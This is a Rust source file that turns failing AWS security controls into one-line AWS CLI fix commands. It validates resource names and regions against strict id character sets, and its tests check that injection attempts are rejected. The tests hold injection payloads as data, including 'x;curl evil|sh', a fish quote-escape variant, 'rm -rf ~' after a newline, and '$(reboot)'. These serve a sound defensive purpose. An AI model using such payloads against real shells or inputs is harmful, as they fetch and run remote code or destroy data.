//! A failing control's fix as one AWS CLI command, for the controls whose fix needs nothing but
//! the resource (no policy to write, no role or key to choose): the detail view shows it and the
//! action menu copies it. The rest link AWS's remediation page instead.
//!
//! Every value taken from the finding (a bucket's name, an instance id) must read as AWS spells
//! that kind of id, or there is no command: the command is pasted into a shell (POSIX or fish,
//! which quote differently), and a resource name is text anyone allowed to import findings wrote.

use std::ops::RangeInclusive;

/// The command that fixes `control` on `resource` (an ARN, or `AWS::::Account:ID` for the
/// account's own controls) in `region` of `account`, where there is one.
pub fn cli_fix(control: &str, resource: &str, region: &str, account: &str) -> Option<String> {
    let region = id(region, |c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-', 4..=32)?;
    let account = id(account, |c| c.is_ascii_digit(), 12..=12)?;
    let block_all = "BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true";
    let lower_id = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    // Consolidated control ids; a standard's own (`PCI.S3.2`) have no fix here.
    let fix = match control {
        "S3.1" => {
            format!(
                "aws s3control put-public-access-block --account-id {account} --public-access-block-configuration {block_all}"
            )
        }
        "S3.8" => {
            let bucket = id(resource.strip_prefix("arn:aws:s3:::")?, |c| lower_id(c) || ".-".contains(c), 3..=63)?;
            format!(
                "aws s3api put-public-access-block --bucket {bucket} --public-access-block-configuration {block_all}"
            )
        }
        "EC2.7" => format!("aws ec2 enable-ebs-encryption-by-default --region {region}"),
        "EC2.8" => {
            let instance = id(typed(resource, "ec2", "instance/")?, |c| lower_id(c) || c == '-', 10..=19)?;
            format!(
                "aws ec2 modify-instance-metadata-options --region {region} --instance-id {instance} --http-tokens required \
                 --http-endpoint enabled"
            )
        }
        "ECR.1" => {
            let repository =
                id(typed(resource, "ecr", "repository/")?, |c| lower_id(c) || "._/-".contains(c), 2..=256)?;
            format!(
                "aws ecr put-image-scanning-configuration --region {region} --repository-name {repository} \
                 --image-scanning-configuration scanOnPush=true"
            )
        }
        "KMS.4" => {
            let key = id(typed(resource, "kms", "key/")?, |c| lower_id(c) || c == '-', 36..=36)?;
            format!("aws kms enable-key-rotation --region {region} --key-id {key}")
        }
        "GuardDuty.1" => format!("aws guardduty create-detector --region {region} --enable"),
        "RDS.2" => {
            let db = id(typed(resource, "rds", "db:")?, |c| c.is_ascii_alphanumeric() || c == '-', 1..=63)?;
            format!(
                "aws rds modify-db-instance --region {region} --db-instance-identifier {db} --no-publicly-accessible \
                 --apply-immediately"
            )
        }
        "DynamoDB.2" => {
            let table = id(
                typed(resource, "dynamodb", "table/")?,
                |c| c.is_ascii_alphanumeric() || "_.-".contains(c),
                3..=255,
            )?;
            format!(
                "aws dynamodb update-continuous-backups --region {region} --table-name {table} \
                 --point-in-time-recovery-specification PointInTimeRecoveryEnabled=true"
            )
        }
        "CloudTrail.4" => {
            typed(resource, "cloudtrail", "trail/")?;
            let trail = id(resource, |c| c.is_ascii_alphanumeric() || ":/_.-".contains(c), 1..=512)?;
            format!("aws cloudtrail update-trail --region {region} --name {trail} --enable-log-file-validation")
        }
        _ => return None,
    };
    Some(fix)
}

/// `value` when every character is one `allowed` and its length is in `len`: then it is one shell
/// word in every shell, with nothing to quote.
fn id(value: &str, allowed: impl Fn(char) -> bool, len: RangeInclusive<usize>) -> Option<&str> {
    (len.contains(&value.len()) && value.chars().all(allowed)).then_some(value)
}

/// The id of an ARN of `service` (its third field, exactly) whose resource part is `kind` then
/// the id (`instance/i-0abc`).
fn typed<'a>(arn: &'a str, service: &str, kind: &str) -> Option<&'a str> {
    let mut fields = arn.splitn(6, ':');
    if fields.next() != Some("arn") || fields.nth(1) != Some(service) {
        return None;
    }
    let id = fields.nth(2)?.strip_prefix(kind)?;
    (!id.is_empty()).then_some(id)
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: &str = "111122223333";

    #[test]
    fn a_fix_names_the_resource_and_its_region() {
        assert_eq!(
            cli_fix("S3.8", "arn:aws:s3:::shop-assets", "eu-west-1", A).unwrap(),
            "aws s3api put-public-access-block --bucket shop-assets --public-access-block-configuration \
             BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true"
        );
        assert_eq!(
            cli_fix("EC2.8", "arn:aws:ec2:eu-west-1:1:instance/i-0abc1234", "eu-west-1", A).unwrap(),
            "aws ec2 modify-instance-metadata-options --region eu-west-1 --instance-id i-0abc1234 --http-tokens required \
             --http-endpoint enabled"
        );
        let key = "8a2b4c6d-1e3f-4a5b-8c7d-9e0f1a2b3c4d";
        let fix = cli_fix("KMS.4", &format!("arn:aws:kms:us-east-1:{A}:key/{key}"), "us-east-1", A).unwrap();
        assert!(fix.ends_with(&format!("--key-id {key}")), "{fix}");
        let fix = cli_fix("S3.1", "AWS::::Account:111122223333", "us-east-1", A).unwrap();
        assert!(fix.contains("--account-id 111122223333"), "{fix}");
    }

    #[test]
    fn no_fix_for_a_resource_of_another_kind_or_a_control_without_one() {
        assert_eq!(cli_fix("EC2.8", "arn:aws:ec2:us-east-1:1:snapshot/snap-1", "us-east-1", A), None);
        assert_eq!(
            cli_fix("EC2.8", "arn:aws:ecr:us-east-1:1:instance/i-0abc1234", "us-east-1", A),
            None,
            "service exactly"
        );
        assert_eq!(cli_fix("S3.8", "AWS::::Account:1", "us-east-1", A), None);
        assert_eq!(cli_fix("IAM.4", "AWS::::Account:1", "us-east-1", A), None, "the root user's keys: no CLI");
        assert_eq!(
            cli_fix("EC2.1", "AWS::::Account:1", "us-east-1", A),
            None,
            "an account-level control with no one fix"
        );
    }

    #[test]
    fn a_value_that_is_not_an_aws_id_gets_no_command_in_any_shell() {
        // POSIX quoting would keep these inert; fish reads \' inside single quotes as an escape.
        for repository in ["x;curl evil|sh", "x\\';curl evil|sh #", "a\nrm -rf ~", "Shop", "x\u{202e}y"] {
            let arn = format!("arn:aws:ecr:us-east-1:1:repository/{repository}");
            assert_eq!(cli_fix("ECR.1", &arn, "us-east-1", A), None, "{repository:?}");
        }
        assert_eq!(cli_fix("GuardDuty.1", "AWS::::Account:1", "us-east-1$(reboot)", A), None);
        assert_eq!(cli_fix("GuardDuty.1", "AWS::::Account:1", "us-east-1", "1; reboot"), None);
    }
}
